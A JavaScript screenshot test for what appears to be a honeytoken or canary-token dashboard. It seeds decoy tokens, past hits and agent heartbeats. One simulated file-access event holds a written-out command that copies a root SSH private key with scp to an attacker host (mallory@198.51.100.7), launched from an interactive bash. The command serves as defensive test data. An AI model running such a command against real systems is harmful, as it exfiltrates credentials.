import assert from 'node:assert/strict';
import { test } from 'node:test';
import { browserFixture, openPage, signIn } from './support/browser.js';
import { curl } from './support/curl.js';
import { fullPageShot } from './support/screenshot.js';
import { createTokens, recordPastHits, reportFileAccess, sendHeartbeat } from './support/seed.js';

const fixture = browserFixture();

test('screenshots of the token list and a token detail page', async () => {
  const { server, browser } = fixture;
  const [finance, hr, , backup] = await createTokens(server, [
    'Web bug in the finance share README',
    'HR onboarding wiki: salary spreadsheet link',
    'Jenkins build log: fake artifact URL',
    'Backup server motd: restore portal link',
    'Confluence space "Incident response" page footer',
  ]);
  await recordPastHits(server, finance!, [0.2, 0.5, 1.1, 2, 2.2, 5, 9, 9.5, 14, 20, 21, 33, 40, 47]);
  await recordPastHits(server, hr!, [3, 30]);
  await recordPastHits(server, backup!, [26]);
  assert.equal(await curl(finance!.url, 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0'), 200);

  const { page, watch } = await openPage(browser);
  await signIn(page, server.adminUrl, server.key);

  const financeRow = page.locator('tr', { hasText: finance!.memo });
  await financeRow.getByTestId('hit-count').filter({ hasText: /^15$/ }).waitFor();
  await fullPageShot(page, 'token-list.png');

  await financeRow.getByRole('link', { name: finance!.memo }).click();
  await page.getByTestId('chart-total').filter({ hasText: '15 hits in the last 48 hours' }).waitFor();
  const newest = page.locator('tr.hit-row').first();
  await newest.click();
  await page.getByTestId('hit-detail').waitFor();
  await fullPageShot(page, 'token-detail.png');

  await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: 'Tokens' }).click();
  await page.getByRole('link', { name: 'New token' }).click();
  await page.getByLabel('Memo').fill('Slide deck: board meeting notes');
  await page.getByRole('button', { name: 'Create http token' }).click();
  await page.getByTestId('artifact-url').waitFor();
  await fullPageShot(page, 'token-created.png');

  assert.deepEqual(watch.errors, []);
  assert.deepEqual(watch.cspViolations, []);
});

test('screenshots of a file hit with its process, and of the agents page', async () => {
  const { server, browser } = fixture;
  const created = await server.api('POST', '/tokens', { kind: 'file', memo: 'Decoy SSH key on db-01', options: { path: '/root/.ssh/id_ed25519' } });
  assert.equal(created.status, 201);
  const agent = await reportFileAccess(
    server,
    created.body.id,
    '/root/.ssh/id_ed25519',
    { binary: '/usr/bin/scp', arguments: ['-q', '/root/.ssh/id_ed25519', 'mallory@198.51.100.7:/tmp/'] },
    { binary: '/bin/bash', arguments: ['-i'] },
  );
  await sendHeartbeat(server, agent.key, {
    node: 'db-01.prod.example.com',
    version: '0.1.0',
    startedAt: new Date(Date.now() - 86_400_000).toISOString(),
    policies: [
      { file: '/etc/tripline/policies/ssh-key.yaml', name: `tripline-${created.body.id}`, ok: true, errors: [], warnings: [] },
      {
        file: '/etc/tripline/policies/exec.yaml',
        name: null,
        ok: false,
        errors: ['spec.kprobes[0].call: this sensor cannot observe "security_bprm_check"'],
        warnings: [],
      },
    ],
    watched: [{ path: '/root/.ssh/id_ed25519', tokenId: created.body.id, ok: true }],
  });
  await server.api('POST', '/agents', { name: 'web-03' });

  const { page, watch } = await openPage(browser);
  await signIn(page, server.adminUrl, server.key);
  await page.getByRole('link', { name: 'Decoy SSH key on db-01' }).click();
  await page.locator('tr.hit-row').first().click();
  await page.getByTestId('hit-detail').waitFor();
  await fullPageShot(page, 'file-hit-detail.png');

  await page.getByRole('navigation', { name: 'Sections' }).getByRole('link', { name: 'Agents' }).click();
  const row = page.locator('tr[data-agent-id]', { hasText: 'db-01' });
  await row.getByText('online').waitFor();
  await row.getByRole('button', { name: 'Show policies and files' }).click();
  await page.getByText('this sensor cannot observe').waitFor();
  await fullPageShot(page, 'agents.png');

  assert.deepEqual(watch.errors, []);
  assert.deepEqual(watch.cspViolations, []);
});
